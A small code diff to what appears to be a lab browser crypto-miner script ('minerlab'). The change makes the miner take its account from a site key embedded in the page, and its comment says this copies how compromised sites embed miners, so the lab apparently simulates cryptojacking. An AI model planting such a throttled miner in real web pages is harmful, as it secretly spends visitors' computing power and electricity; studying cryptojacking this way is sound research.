@@ -8,7 +8,8 @@
     const clamp = (v, lo, hi) => Math.min(hi, Math.max(lo, v));
     let throttle = clamp(parseFloat(q.get('throttle') || '0'), 0, 0.99);
     const threads = clamp(parseInt(q.get('threads') || '1', 10) || 1, 1, 16);
-    const user = q.get('user') || 'minerlab-browser';
+    // The site key is the page's (miner.html), as compromised sites embed it.
+    const user = window.mlSiteKey || q.get('user') || 'minerlab-browser';
     const ramp = (q.get('ramp') || '').split(':').map(Number); // duty % from:to:s
     const state = { hashes: 0, accepted: 0, rejected: 0, job: null, ws: null };
     const statusEl = document.getElementById('status');
